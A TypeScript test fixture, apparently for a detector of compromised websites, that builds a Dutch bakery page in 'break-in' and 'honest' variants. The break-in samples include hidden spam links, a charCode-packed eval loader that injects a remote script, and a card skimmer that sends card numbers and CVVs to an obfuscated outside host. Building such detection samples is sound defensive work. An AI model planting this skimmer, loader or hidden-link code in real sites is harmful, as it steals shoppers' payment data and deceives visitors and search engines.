import { BAKERY, doc, type Variant } from './kit.ts';

const broken = (what: string, html: string): Variant => ({ what, state: 'breakIn', html });
const inside = (more: string, head = ''): string => doc('Bakkerij Jansen | Deventer', `${BAKERY}${more}`, { head });

const links = (...names: readonly string[]): string =>
  names
    .map((name, index) => `<a href="https://a${index}.example.top/${name.replaceAll(' ', '-')}">${name}</a>`)
    .join(' ');
const CASINO = links('online casino', 'slot gacor', 'poker online', 'casino bonus');
const PILLS = links('viagra kopen', 'kamagra zonder recept', 'cialis 20mg');
const LOANS = links('geld lenen zonder bkr', 'minilening', 'payday loans');

/** As packers write it: a string of numbers or escapes that is made code and run. */
const packed = (code: string): string =>
  `eval(String.fromCharCode(${[...code].map((sign) => sign.charCodeAt(0)).join(',')}))`;

/** Pages that somebody else changed, one sign each. */
export const BREAK_INS: readonly Variant[] = [
  broken('links out of the window', inside(`<div style="position:absolute;left:-9999px">${CASINO}</div>`)),
  broken('links that are not displayed', inside(`<div style="display:none">${PILLS}</div>`)),
  broken('links of no size', inside(`<div style="font-size:0;height:0;overflow:hidden">${LOANS}</div>`)),
  broken(
    'links that are clipped away',
    inside(`<div style="position:absolute;clip:rect(0 0 0 0);width:1px;height:1px;overflow:hidden">${CASINO}</div>`),
  ),
  broken(
    'links by a class',
    inside(`<div class="zq">${PILLS}</div>`, '<style>.zq{position:absolute;top:-5000px}</style>'),
  ),
  broken('links nobody sees through', inside(`<div style="opacity:0">${CASINO}</div>`)),
  broken('a Japanese title', doc('激安スーパーコピー 時計 通販', BAKERY)),
  broken('a Chinese title on a Dutch page', doc('在线赌场 老虎机 官方网站', BAKERY)),
  broken(
    'packed code that writes a script',
    inside(
      `<script>${packed("var s=document.createElement('script');s.src='https://cdn.trafik-zz.top/x.js';document.head.appendChild(s);")}</script>`,
    ),
  ),
  broken(
    'a skimmer',
    inside(
      `<script>document.addEventListener('submit',function(){var n=document.querySelector('[name=cardnumber]').value,c=document.querySelector('[name=cvv]').value;new Image().src=atob('aHR0cHM6Ly9zdGF0cy1jZG4udG9wL2cucGhw')+'?d='+btoa(n+c);});</script>`,
    ),
  ),
];

/** What honest pages have of the kind. */
export const HONEST: readonly Variant[] = [
  {
    what: 'a closed menu',
    html: inside(
      '<ul style="display:none"><li><a href="/brood">Brood</a></li><li><a href="/taart">Taart</a></li><li><a href="/route">Route</a></li></ul>',
    ),
  },
  {
    what: 'text for screen readers',
    html: inside('<a style="position:absolute;left:-9999px" href="#main">Naar de inhoud</a>'),
  },
  {
    what: 'a casino’s own site',
    html: doc(
      'Casino Jansen | Online casino',
      `${BAKERY.replace('Bakkerij Jansen in Deventer', 'Online casino Jansen')}<div style="display:none">${CASINO}</div>`,
    ),
  },
  {
    what: 'a pharmacy',
    html: doc(
      'Apotheek Jansen',
      `${BAKERY.replace('Bakkerij Jansen in Deventer', 'Apotheek Jansen: medicijnen')}<div style="display:none">${PILLS}</div>`,
    ),
  },
  {
    what: 'packed measurement',
    html: inside(
      `<script>${packed("var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);var s=document.createElement('script');s.src='https://matomo.bakkerij-jansen.nl/m.js';document.head.appendChild(s);")}</script>`,
    ),
  },
  { what: 'a title with a name in another script', html: doc('Bakkerij Jansen · 日本語', BAKERY) },
];
